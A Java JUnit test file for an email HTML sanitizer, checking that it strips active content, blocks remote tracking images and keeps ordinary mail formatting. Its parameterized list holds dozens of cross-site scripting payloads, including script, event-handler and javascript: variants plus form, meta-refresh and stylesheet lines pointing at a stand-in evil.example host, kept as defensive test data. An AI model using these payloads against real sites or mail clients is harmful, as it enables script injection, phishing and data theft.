package org.muniment.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {
    private static final Set<String> ATTRIBUTES = Set.of(
            "href", "rel", "target", "title", "src", "alt", "width", "height", "colspan", "rowspan", "dir", "class");

    private static final byte[] PIXEL =
            Base64.getDecoder().decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");

    private final SafeHtml safeHtml = new SafeHtml();

    /** Checks as a browser would see it, inside a container that it must not leave. */
    private static void assertHarmless(String html) {
        var document = Jsoup.parse("<main id=inside>" + html + "</main><p id=after>after</p>");
        assertThat(document.selectFirst("#after").parent().normalName()).isEqualTo("body");
        for (Element element : document.selectFirst("#inside").select("*")) {
            if (element.id().equals("inside")) {
                continue;
            }
            assertThat(element.normalName())
                    .doesNotMatch("script|style|iframe|object|embed|svg|math|form|input|link|meta|base");
            for (Attribute attribute : element.attributes()) {
                assertThat(ATTRIBUTES).contains(attribute.getKey());
                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\s\\p{Cntrl}]", "");
                if (attribute.getKey().equals("href")) {
                    assertThat(value).matches("(https?://|mailto:|tel:).*");
                }
                if (attribute.getKey().equals("src")) {
                    assertThat(value).startsWith("data:image/gif;base64,");
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<IMG SRC=`javascript:alert(1)`>",
                "<img src=\"jav&#x09;ascript:alert(1)\">",
                "<img src=\"&#106;avascript:alert(1)\">",
                "<img/src='x'/onerror=alert(1)>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<a href=\"\\\\evil.example\">x</a>",
                "<body onload=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
                "<embed src=\"//evil.example/x.swf\">",
                "<form action=//evil.example><input name=p><button>go</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=\"//evil.example/\">",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>@import '//evil.example/x.css';</style>",
                "<style>*{background:url(//evil.example)}</style>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<table background=\"//evil.example/x.png\"><tr><td>x</table>",
                "</main></div></body></html><script>alert(1)</script>",
                "</main><p>outside",
                "<!--<img src=x onerror=alert(1)>-->",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<textarea><script>alert(1)</script></textarea>",
                "<title></title><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
                "<p title='\"><script>alert(1)</script>'>x</p>",
                "<a title=\"x\" onmouseover=\"alert(1)\" href=https://x>x</a>",
                "<a href=https://x target=_top id=location name=cookie class=evil>x</a>",
                "<img name=getElementById src=cid:a>",
                "<b/onmouseover=alert(1)>x</b>",
                "<x onclick=alert(1)>x</x>",
                "<p\u0000 onclick=alert(1)>x",
                "<scr\u0000ipt>alert(1)</script>",
                "<img srcset=\"//evil.example/1.png 1x\">",
                "<picture><source srcset=//evil.example/1><img src=//evil.example/2></picture>",
                "<select><template><img src=x onerror=alert(1)></template></select>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<isindex action=javascript:alert(1) type=image>",
                "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
                "<bgsound src=//evil.example>",
                "<layer src=//evil.example></layer>",
                "<img src=\"cid:a\" width=\"100000px;onerror=alert(1)\">",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<div><div><div></span></p></div>",
                "<a href=\"https://x\"><a href=\"javascript:alert(1)\">y</a></a>",
                "<p><table><p><td>x",
            })
    void letsNothingActiveThrough(String payload) {
        SafeHtml.Result result =
                safeHtml.sanitize("<p>before</p>" + payload, cid -> Optional.of(PIXEL), SafeHtml.Remote.BLOCKED);
        assertHarmless(result.html());
        assertThat(result.html()).contains("before");
        assertHarmless(safeHtml.sanitize(result.html()).html());
    }

    @Test
    void keepsWhatMailLooksLike() {
        String html = safeHtml.sanitize(
                        "<h1>Hi</h1><p style='text-align: center; font-weight:bold'>a <b>b</b> <i>c</i></p><ul><li>x</li></ul>"
                                + "<table><tr><td colspan=2>cell</td></tr></table><blockquote>q</blockquote><pre>p  p</pre>")
                .html();
        assertThat(html)
                .contains(
                        "<h1>Hi</h1>",
                        "<b>b</b>",
                        "<li>x</li>",
                        "<td colspan=\"2\">cell</td>",
                        "<blockquote>",
                        "<pre>p  p</pre>");
        assertThat(html).contains("class=\"mail-center mail-bold\"").doesNotContain("style=");
    }

    @Test
    void countsAndNamesWhatItBlocks() {
        SafeHtml.Result result = safeHtml.sanitize(
                "<img src=https://t.example/pixel.gif><img src='http://t.example/2' alt=Logo>"
                        + "<div style='background:url(https://t.example/3)'>x</div><script>1</script><p onclick=a()>y</p>");
        assertThat(result.blockedRemote()).isEqualTo(3);
        assertThat(result.blockedActive()).isEqualTo(2);
        assertThat(result.html()).doesNotContain("t.example").contains("[Logo]");
    }

    @Test
    void showsPicturesThatTheMailBrings() {
        SafeHtml.Result result = safeHtml.sanitize(
                "<img src=cid:one@x alt=A><img src=\"CID:two\">",
                cid -> cid.equals("one@x") ? Optional.of(PIXEL) : Optional.empty(),
                SafeHtml.Remote.BLOCKED);
        assertThat(result.html())
                .contains("<img src=\"data:image/gif;base64,R0lGODlhAQAB")
                .contains("alt=\"A\"")
                .doesNotContain("cid:");
        assertThat(result.usedCids()).containsExactly("one@x");
        assertThat(safeHtml.sanitize(
                                "<img src='data:text/html;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'>")
                        .html())
                .as("a picture by content, whatever it is called")
                .contains("data:image/gif;base64,");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                "<html><script>alert(1)</script>",
                "GIF89",
                "GIF89a\u00ff\u00ff\u00ff\u00ff<script>",
                "BM everything"
            })
    void showsNothingThatIsNoModestPictureByItsContent(String content) {
        byte[] bytes = content.getBytes(StandardCharsets.ISO_8859_1);
        assertThat(safeHtml.sanitize("<img src=cid:a alt=shown>", cid -> Optional.of(bytes), SafeHtml.Remote.PICTURES)
                        .html())
                .isEqualTo("[shown]");
        String data = Base64.getEncoder().encodeToString(bytes);
        assertThat(safeHtml.sanitize("<img src='data:image/png;base64," + data + "'>")
                        .html())
                .isEmpty();
    }

    @Test
    void keepsTheSumOfPicturesSmall() {
        byte[] large = Arrays.copyOf(PIXEL, 1024 * 1024);
        String html = safeHtml.sanitize(
                        "<img src=cid:a>".repeat(100), cid -> Optional.of(large), SafeHtml.Remote.BLOCKED)
                .html();
        assertThat(Jsoup.parse(html).select("img")).hasSize(4);
        byte[] tooLarge = Arrays.copyOf(PIXEL, 1024 * 1024 + 1);
        assertThat(safeHtml.sanitize("<img src=cid:a>", cid -> Optional.of(tooLarge), SafeHtml.Remote.BLOCKED)
                        .html())
                .isEmpty();
    }

    @Test
    void leavesRemotePicturesToTheReader() {
        String html =
                "<img src=https://t.example/1.png><img src=//t.example/2.png><img src='http://t.example/3.png' srcset='x'>"
                        + "<table background=https://t.example/4><tr><td style='background:url(https://t.example/5)'>x</table>"
                        + "<img src='javascript:alert(1)'><img src='https://t.example/\"onerror=alert(1)'>";
        SafeHtml.Result blocked = safeHtml.sanitize(html);
        assertThat(blocked.html()).doesNotContain("t.example");
        assertThat(blocked.remotePictures()).isEqualTo(2);
        SafeHtml.Result shown = safeHtml.sanitize(html, cid -> Optional.empty(), SafeHtml.Remote.PICTURES);
        assertThat(Jsoup.parse(shown.html()).select("[src]").eachAttr("src"))
                .containsExactly("https://t.example/1.png", "http://t.example/3.png");
        assertThat(shown.html()).doesNotContain("srcset", "background", "onerror");
    }

    @Test
    void showsWhereLinksLead() {
        String html = safeHtml.sanitize(
                        "<a href=\"https://evil.example/a?b=c\" title=\"https://bank.example\">https://bank.example</a>")
                .html();
        Element link = Jsoup.parse(html).selectFirst("a");
        assertThat(link.attr("title")).isEqualTo("https://evil.example/a?b=c");
        assertThat(link.attr("rel").split(" ")).containsExactlyInAnyOrder("noopener", "noreferrer", "nofollow");
        assertThat(link.attr("target")).isEqualTo("_blank");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"<div><table><tr><td>", "<b>", "<a href=https://x.example/>y</a>", "<p>words and words</p>"})
    void staysQuickOnHugeInput(String piece) {
        for (int count : new int[] {SafeHtml.MAX_INPUT / piece.length(), 7_000}) {
            long before = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
            SafeHtml.Result result = safeHtml.sanitize(piece.repeat(count));
            long millis = (ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() - before) / 1_000_000;
            assertHarmless(result.html());
            System.getLogger("test")
                    .log(System.Logger.Level.INFO, "%d times %s: %d ms".formatted(count, piece, millis));
            assertThat(millis).isLessThan(4_000);
        }
    }
}
